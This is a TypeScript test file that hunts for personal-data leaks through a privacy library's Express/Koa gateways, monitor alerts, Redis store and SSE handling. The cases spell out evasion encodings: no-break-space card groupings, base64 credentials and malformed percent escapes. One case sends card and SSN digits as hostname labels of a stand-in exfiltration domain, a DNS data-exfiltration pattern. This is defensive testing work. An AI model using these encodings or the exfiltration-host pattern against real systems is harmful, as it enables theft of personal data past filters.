// A fifth outside attack. Real Express and Koa gateways on 127.0.0.1 proxying to a real local vendor, a real local vendor
// answering JSON, guardFetch, Redis at REDIS_URL for the monitor's store. Every case below got a canary (or a decoy) out
// when it was written, and asserts what should happen:
// - responseDrift paths name answer keys that are a phone number or an SSN glued to their context word (`tel_1415…`,
//   `ssn_2190…`): in the alert, monitor.alerts() and the learned shapes in the Redis store (src/monitor/shape.ts nameable()).
// - A card decoy grouped by no-break spaces, dots or mixed separators reaches the vendor (src/monitor/honeytokens.ts spellingsOf()).
// - An email decoy upper-cased inside a base64 Basic credential reaches the vendor (honeytokens.ts patternsOf(): base64 forms
//   only in the minted case).
// - A decoy written as percent escapes beside one malformed escape, in a query or a form body, reaches the vendor
//   re-encoded (src/monitor/guard.ts preflight() / searchBodyText(): the search reads what qs decoded, and qs leaves a
//   component that does not decode as it was).
// - A host no destination declares, spelled with a card number and an SSN, is raised as it is in the newDestination alert
//   (src/monitor/monitor.ts unknownHost()) and quoted in the ERR_UNKNOWN_DESTINATION message (src/fetch/outbound.ts checkUrl()).
// - An event stream's `id` and `event` fields pass maskFields unscanned to the client, and protect to the vendor
//   (src/middleware/stream.ts event()).
//
// What held (tried, no canary out; not kept here as cases, the earlier hunts cover the same ground):
// - pino 10 through pinoOptions: %s %d %i %f %j %o %O %% with strings, numbers, BigInts, Symbols, Maps, Sets, toJSON,
//   throwing getters / toJSON / toString, Proxies, 200-deep and 5,000-wide objects, a 300 KB string, errors with causes,
//   AggregateError, own properties, a rewritten stack or name; object messages with arguments; child bindings and msgPrefix.
// - winston 3 through redactFormat + splat: %s %d %i %j %o %O %c %% (counting), metadata after the placeholders, keys
//   that are data, Errors, circular objects, non-enumerable properties, class instances, Maps, defaultMeta, child, log().
// - redactLogs on Express with pino: route patterns only (unmatched and RegExp routes included), queries with data as keys
//   and nested keys, headers (referer, user-agent, cookie), bodies, the request logger, a body that does not parse.
// - The text walk (applyPlanText) against JSON.stringify of the value walk: 20,000 random objects over four plans (scrub,
//   mask, scrub with scan, mask with keep), with and without caseInsensitiveKeys, keys such as __proto__, quotes in keys,
//   lone surrogates, -0, NaN, 1e21, Dates: the same text, and no personal value outside a public field.
// - protect on Express and Koa: data in query keys, nested and repeated query keys, form bodies, text/plain (415),
//   UTF-16 JSON, +json types, duplicate and __proto__ / constructor keys.
// - The vault behind tokenizeFields: a store that throws (with the value in its message), throws synchronously, hangs on
//   allocate or on its generation: 503 ERR_VAULT_UNAVAILABLE within the deadline, nothing forwarded, no message passed on.
//   A store answering tokens that are not strings makes the fields leave the payload (no value out, but no error either).
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMonitor, redisMonitorStore, type Alert } from '../../src/index.js';
import { redisClient, redisUrl } from '../helpers/redis.js';
import express from 'express';
import { z } from 'zod';
import { defineSchema, tag } from '../../src/index.js';
import * as fx from '../../src/express/index.js';
import { listen, startVendor } from '../helpers/vendor.js';
import { crm, decoyRig, gateway, post, schema, testClock, type App } from '../monitor/helpers.js';
import { guardFetch } from '../../src/fetch/index.js';
import { canaries, findLeaks } from './canaries.js';

const settle = (ms = 30): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** A local vendor whose JSON answer the test sets. */
let answer: unknown = { id: 'c1', status: 'active' };
let answering: App;
function answerWith(req: IncomingMessage, res: ServerResponse): void {
  req.resume();
  req.on('end', () => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(answer));
  });
}
beforeAll(async () => {
  answering = await listen(createServer(answerWith));
});
afterAll(async () => {
  await answering.close();
});

const randomDigits = (n: number): string => Array.from({ length: n }, () => String(Math.floor(Math.random() * 10))).join('');

/** Everything a Redis monitor store holds under a prefix, as text. */
async function redisDump(url: string, prefix: string): Promise<string> {
  const client = redisClient(url);
  try {
    const keys = await client.keys(`${prefix}*`);
    let text = keys.join('\n');
    for (const k of keys) text += `\n${k}=${JSON.stringify(await client.dump(k))}`;
    for (const k of keys) {
      const type = await client.type(k);
      if (type === 'set') text += `\n${(await client.smembers(k)).join('\n')}`;
      else if (type === 'hash') text += `\n${JSON.stringify(await client.hgetall(k))}`;
      else if (type === 'string') text += `\n${await client.get(k)}`;
      else if (type === 'list') text += `\n${(await client.lrange(k, 0, -1)).join('\n')}`;
      else if (type === 'zset') text += `\n${(await client.zrange(k, 0, -1)).join('\n')}`;
    }
    await client.del(...(keys.length > 0 ? keys : ['-']));
    return text;
  } finally {
    client.disconnect();
  }
}

describe.each([
  ['Express', 'memory'],
  ['Koa', 'memory'],
  ['Express', 'Redis'],
] as const)('monitor on %s (%s store): responseDrift paths of a vendor answer keyed by data', (framework, kept) => {
  // The vendor answers maps keyed by the customers' phone numbers and SSNs, each after its context word and an underscore
  // (`tel_14155550123`, `ssn_219099999`). shape.ts nameable() names a key that matches NAME, is shorter than 16 characters
  // and in which detect() finds nothing; detect finds `tel 14155550123` and `ssn 219099999`, but not once the underscore
  // glues the number to its word (the log scanner reads such a value apart: log/encoded.ts GLUED; the shape does not).
  // The alert's paths carry them, and so do the learned shapes recorded in the monitor's store (`response:<destination>`).
  it('a phone number or an SSN as a key of the answer is never named in an alert, a snapshot or the store', async () => {
    const phone = `1415555${randomDigits(4)}`;
    const ssn = `${219 + Math.floor(Math.random() * 400)}${10 + Math.floor(Math.random() * 80)}${1000 + Math.floor(Math.random() * 8000)}`;
    answer = { id: 'c1', status: 'active' };
    const destinations = crm(answering.url);
    const clock = testClock();
    const alerts: Alert[] = [];
    const url = redisUrl() ?? 'redis://127.0.0.1:6379';
    const prefix = `fg-attack-5:${randomDigits(8)}:`;
    const client = kept === 'Redis' ? redisClient(url) : undefined;
    const store = client === undefined ? {} : { store: redisMonitorStore(client, { prefix }) };
    const monitor = createMonitor({ destinations, clock: clock.now, window: 1000, history: 8, warmup: 2, onAlert: (a) => void alerts.push(a), audit: () => undefined, signals: { outboundDrift: false }, ...store });
    const app = await gateway(framework, destinations, answering.url);
    const call = async (): Promise<void> => {
      expect((await post(app, { id: 'o1', contacts: [] })).status).toBe(200);
    };
    try {
      for (let w = 0; w < 3; w++) {
        await call();
        await call();
        await settle();
        clock.advance(1000);
        await monitor.flush();
      }
      answer = { id: 'c1', status: 'active', byPhone: { [`tel_${phone}`]: { id: 'c1' } }, bySsn: { [`ssn_${ssn}`]: 'c1' } };
      await call();
      await settle();
      await monitor.flush();
      const drift = alerts.filter((a) => a.signal === 'responseDrift');
      // The answer did change: the alert is raised, and says so without naming the keys.
      expect(drift.length).toBeGreaterThan(0);
      const channels: Record<string, string> = { alerts: JSON.stringify(alerts), recent: JSON.stringify(monitor.alerts()), snapshot: JSON.stringify(await monitor.snapshot()) };
      await monitor.close();
      if (client !== undefined) channels['store'] = await redisDump(url, prefix);
      const found = Object.entries(channels).flatMap(([name, text]) => [...(text.includes(phone) ? [`phone in ${name}`] : []), ...(text.includes(ssn) ? [`SSN in ${name}`] : [])]);
      expect(found).toEqual([]);
    } finally {
      await monitor.close();
      await app.close();
      client?.disconnect();
    }
  });
});

/** A gateway to a fresh vendor behind a monitor that minted a card and an email decoy. */
async function rigged(framework: 'Express' | 'Koa') {
  const r = await decoyRig(framework, (m) => ({
    card: m.honeytoken({ kind: 'cardNumber', label: 'card-decoy' }),
    email: m.honeytoken({ kind: 'email', domain: 'decoy.example.com', label: 'mail-decoy' }),
  }));
  return { ...r, ...r.decoys };
}

describe.each(['Express', 'Koa'] as const)('monitor on %s: decoys written the ways people write them', (framework) => {
  // honeytokens.ts spellingsOf(): a card decoy is searched as 16 digits and in groups of four split by one space or one dash
  // throughout. The same card grouped by a no-break space (what a formatted document pastes), by dots, or by a mix
  // of separators is the same card to whoever reads it, and reaches the vendor with a 200.
  it('a card decoy grouped by a no-break space, dots, or mixed separators in a public field is refused', async () => {
    const r = await rigged(framework);
    try {
      const g = r.card.match(/\d{4}/g)!;
      const forms = [g.join('\u00a0'), g.join('.'), `${g[0]} ${g[1]}-${g[2]} ${g[3]}`];
      const statuses = [];
      for (const id of forms) statuses.push([JSON.stringify(id), (await post(r.app, { id, contacts: [] })).status]);
      await settle(20);
      expect(statuses).toEqual(forms.map((f) => [JSON.stringify(f), 403]));
      expect(r.vendor.wire().replace(/\D/g, '')).not.toContain(r.card);
    } finally {
      await r.close();
    }
  });

  // honeytokens.ts patternsOf(): an email decoy matches in any letter case as it is and URL-encoded ("mail to an address
  // reaches its mailbox in any letter case"), but its base64 forms only in the case it was minted in. An upper-cased decoy
  // in a Basic credential (base64 of `USER:password`) reaches the vendor's mailbox just as well, and the vendor with a 200.
  it('an email decoy upper-cased inside a base64 Basic credential is refused', async () => {
    const r = await rigged(framework);
    try {
      const basic = `Basic ${Buffer.from(`${r.email.toUpperCase()}:secret`).toString('base64')}`;
      const res = await fetch(`${r.app.url}/crm/contacts`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: basic }, body: JSON.stringify({ id: 'o1', contacts: [] }) });
      await res.text();
      expect(res.status).toBe(403);
      expect(r.vendor.received).toHaveLength(0);
    } finally {
      await r.close();
    }
  });
});

describe.each(['Express', 'Koa'] as const)('monitor on %s: a decoy percent-encoded in a query or a form beside a malformed escape', (framework) => {
  // monitor/guard.ts preflight(): the query is searched as qs parses it; qs decodes a component with decodeURIComponent and
  // keeps it undecoded when that throws, so one malformed escape (`%zz`) leaves a decoy written as escapes (`%34%31…`)
  // unread. The guard then forwards the component re-encoded (`%2534%2531…`): the vendor reads `%34%31…%zz`, the decoy to
  // any lenient decoding (the one fieldguard's own URL and log scanners apply: "one bad byte cannot hide the rest").
  it('the decoy in a query or a form body is refused, and nothing reaches the vendor', async () => {
    const r = await rigged(framework);
    const escaped = (s: string): string => [...s].map((ch) => `%${ch.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    try {
      const statuses: Array<[string, number]> = [];
      for (const [name, value] of [['card', r.card], ['email', r.email]] as const) {
        const q = await fetch(`${r.app.url}/crm/contacts?id=${escaped(value)}%zz`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 'o1', contacts: [] }) });
        await q.text();
        statuses.push([`${name} in the query`, q.status]);
        // A form body is parsed by the same rules, and written on the same way.
        const f = await fetch(`${r.app.url}/crm/contacts`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `id=${escaped(value)}%zz` });
        await f.text();
        statuses.push([`${name} in a form body`, f.status]);
      }
      await settle(20);
      expect(statuses).toEqual([
        ['card in the query', 403],
        ['card in a form body', 403],
        ['email in the query', 403],
        ['email in a form body', 403],
      ]);
      expect(r.vendor.received).toHaveLength(0);
    } finally {
      await r.close();
    }
  });
});

describe('guardFetch with a monitor: a URL whose host no destination declares', () => {
  // monitor.ts unknownHost(): the refused host is learnt in the store's `hosts` namespace and raised as a `newDestination`
  // alert under `destination: host`, as it is. A host built from data (`4xxxxxxxxxxxxxxx.exfil.example`, a label per
  // value: how data leaves through DNS) is refused, and its value is then in the alert every channel carries.
  it('the refusal is raised without the data the host is spelled with', async () => {
    const c = canaries();
    const destinations = crm('https://crm.example.com');
    const alerts: Alert[] = [];
    const clock = testClock();
    const monitor = createMonitor({ destinations, clock: clock.now, window: 1000, history: 8, warmup: 2, onAlert: (a) => void alerts.push(a), audit: () => undefined });
    const f = guardFetch({ destinations, schemaFor: () => schema });
    try {
      const label = c.card.replace(/\D/g, '');
      const ssn = c.ssn;
      const err = await f(`https://${label}.${ssn}.exfil.example/x`, { method: 'GET' }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect((err as { code?: string } | undefined)?.code).toBe('ERR_UNKNOWN_DESTINATION');
      await monitor.flush();
      const text = JSON.stringify(alerts) + JSON.stringify(monitor.alerts()) + JSON.stringify(await monitor.snapshot()) + String((err as Error).message);
      expect(findLeaks({ alerts: text }, c)).toEqual([]);
      expect(text.includes(label), 'card digits in an alert').toBe(false);
    } finally {
      await monitor.close();
    }
  });
});

describe('maskFields on Express: a server-sent event stream', () => {
  // middleware/stream.ts:165: an event's `id` and `event` fields are written on as they came (`head += \`${field}: ${value}\``),
  // neither walked by the plan nor scanned; only `data` is. An event id that is the customer's email (a common choice:
  // the record's key), or an event name carrying a card or a key, reaches the client in clear through maskFields.
  it('an email, a card and an API key in the id and event fields of an event are masked or dropped', async () => {
    const c = canaries();
    const schema = defineSchema(z.object({ id: tag(z.string(), 'public'), email: tag(z.string(), 'personal', { kind: 'email' }) }));
    const e = express();
    e.get('/events', fx.maskFields({ schema }), (_req, res) => {
      res.setHeader('content-type', 'text/event-stream');
      res.write(`id: ${c.email}\nevent: card ${c.card}\ndata: {"id":"a","email":"${c.email}"}\n\n`);
      res.end(`event: ${c.apiKey}\ndata: {"id":"b"}\n\n`);
    });
    const app = await listen(createServer(e));
    try {
      const r = await fetch(`${app.url}/events`);
      const text = await r.text();
      expect(r.status).toBe(200);
      expect(text).toContain('"id":"a"');
      expect(findLeaks({ answer: text }, c)).toEqual([]);
    } finally {
      await app.close();
    }
  });
});

describe.each(['Express', 'Koa'] as const)('protect on %s: a server-sent event stream uploaded to the vendor', (framework) => {
  // The same engine on the request side (middleware/stream.ts:165): an uploaded event's `id` and `event` lines are written
  // on to the vendor as they came, while its `data` goes through the destination's policy.
  it('an email and a card in the id and event fields never reach the vendor', async () => {
    const c = canaries();
    const vendor = await startVendor();
    const app = await gateway(framework, crm(vendor.url), vendor.url);
    try {
      const r = await fetch(`${app.url}/crm/contacts`, { method: 'POST', headers: { 'content-type': 'text/event-stream' }, body: `id: ${c.email}\nevent: ${c.card}\ndata: {"id":"o1","contacts":[]}\n\n` });
      await r.text();
      await settle(20);
      expect(findLeaks({ vendor: vendor.wire() }, c)).toEqual([]);
    } finally {
      await app.close();
      await vendor.close();
    }
  });
});
